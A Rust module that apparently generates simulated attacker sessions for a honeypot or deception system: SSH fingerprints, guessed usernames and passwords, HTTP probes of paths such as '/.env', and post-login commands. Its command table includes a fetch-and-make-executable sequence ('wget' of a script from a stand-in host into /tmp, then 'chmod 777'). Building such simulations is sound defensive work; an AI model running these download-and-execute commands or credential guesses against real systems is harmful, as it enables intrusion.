//! What a peer does in a conversation with a service.

use std::collections::VecDeque;

use decnet_event::Kind;

use super::numbers::Numbers;

/// Services by how often they are visited, each with its port.
pub(super) const SERVICES: [(&str, u16); 5] =
    [("ssh", 22), ("ssh", 22), ("http", 80), ("redis", 6379), ("telnet", 23)];

const NAMES: [&str; 8] = ["root", "admin", "ubuntu", "test", "oracle", "postgres", "pi", "user"];
const CLIENTS: [&str; 3] = ["SSH-2.0-Go", "SSH-2.0-libssh2_1.10.0", "SSH-2.0-OpenSSH_9.2p1"];
const COMMANDS: [(&str, &str); 4] = [
    ("uname", "-a"),
    ("cat", "/proc/cpuinfo"),
    ("wget", "http://198.51.100.7/x.sh -O /tmp/x.sh"),
    ("chmod", "777 /tmp/x.sh"),
];
const PATHS: [&str; 5] = ["/", "/login", "/.env", "/wp-login.php", "/cgi-bin/luci"];
const AGENTS: [&str; 3] = ["curl/8.5.0", "Mozilla/5.0 zgrab/0.x", "python-requests/2.31"];

/// The events of a visit, in order.
pub(super) fn events(service: &str, peer: u32, numbers: &mut Numbers) -> VecDeque<Kind> {
    let mut kinds = VecDeque::from([Kind::Connect {}]);
    kinds.extend(between(service, peer, numbers));
    kinds.push_back(Kind::Disconnect {
        reason: "peer",
        duration_ms: numbers.below(90_000),
        bytes_in: numbers.below(5000),
        bytes_out: numbers.below(50_000),
    });
    kinds
}

fn between(service: &str, peer: u32, numbers: &mut Numbers) -> Vec<Kind> {
    match service {
        "ssh" => ssh(peer, numbers),
        "http" => (0..1 + numbers.below(8)).map(|_| request(numbers)).collect(),
        _ => {
            let mut kinds: Vec<_> = (0..1 + numbers.below(3)).map(|_| attempt(peer, numbers)).collect();
            kinds.extend((0..numbers.below(4)).map(|_| command(numbers)));
            kinds
        }
    }
}

fn ssh(peer: u32, numbers: &mut Numbers) -> Vec<Kind> {
    let client = numbers.pick(&CLIENTS);
    let mut kinds = vec![Kind::SshClient {
        identification: client.into(),
        hassh: format!("{:032x}", client.len()),
        hassh_algorithms: b"curve25519-sha256;aes128-ctr;hmac-sha2-256;none".to_vec(),
        key_exchange: "curve25519-sha256".to_owned(),
        host_key: "ssh-ed25519",
        cipher: "aes128-ctr",
        mac: Some("hmac-sha2-256"),
        compression: "none",
    }];
    kinds.extend((0..1 + numbers.below(4)).map(|_| attempt(peer, numbers)));
    if numbers.below(4) == 0 {
        kinds.extend((0..2 + numbers.below(6)).map(|_| command(numbers)));
    }
    kinds
}

/// A peer tries names and passwords of a list of its own, most of which are on other lists too.
fn attempt(peer: u32, numbers: &mut Numbers) -> Kind {
    let on_lists = (u64::from(peer) * 7 + numbers.below(40)) % 500;
    let number = if numbers.below(20) == 0 { numbers.below(1 << 30) } else { on_lists };
    Kind::AuthAttempt {
        mechanism: "plain",
        username: NAMES.get(number as usize % NAMES.len()).map(|name| (*name).into()),
        password: Some(format!("P4ss{number}!").into()),
        status: if numbers.below(30) == 0 { "accepted" } else { "rejected" },
        key_type: None,
        key_bits: None,
        key_fingerprint: None,
        hash: None,
    }
}

fn command(numbers: &mut Numbers) -> Kind {
    let (command, args) = numbers.pick(&COMMANDS);
    Kind::Command { command: command.into(), args: args.into() }
}

fn request(numbers: &mut Numbers) -> Kind {
    let (path, agent) = (numbers.pick(&PATHS), numbers.pick(&AGENTS));
    Kind::Request {
        method: b"GET".to_vec(),
        path: path.into(),
        query: None,
        http_version: Some(b"HTTP/1.1".to_vec()),
        host: Some(b"192.0.2.7".to_vec()),
        user_agent: Some(agent.into()),
        headers: format!(r#"{{"Host":"192.0.2.7","User-Agent":"{agent}"}}"#),
        body: None,
        status: 404,
    }
}
